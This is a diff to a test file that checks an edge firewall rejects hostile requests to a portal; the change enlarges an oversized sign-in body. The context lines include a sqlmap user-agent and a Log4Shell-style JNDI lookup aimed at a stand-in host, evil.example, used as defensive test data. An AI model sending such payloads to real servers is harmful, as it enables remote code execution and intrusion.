@@ -9,7 +9,7 @@ it('what the firewall at the edge refuses is a problem, for the portal’s pages
     ['/apis', { headers: { 'user-agent': 'sqlmap/1.8' } }, 403, 'forbidden'],
     // biome-ignore lint/suspicious/noTemplateCurlyInString: what is sent
     ['/public/apis', { headers: { 'x-client': '${jndi:ldap://evil.example/a}' } }, 403, 'forbidden'],
-    ['/sign-ins', { method: 'POST', body: 'a'.repeat(9000) }, 413, 'body-too-large'],
+    ['/sign-ins', { method: 'POST', body: 'a'.repeat(17_000) }, 413, 'body-too-large'],
   ] as const) {
     const answer = await ask(path, init);
     expect([answer.status, answer.headers.get('content-type')], path).toEqual([status, 'application/json']);
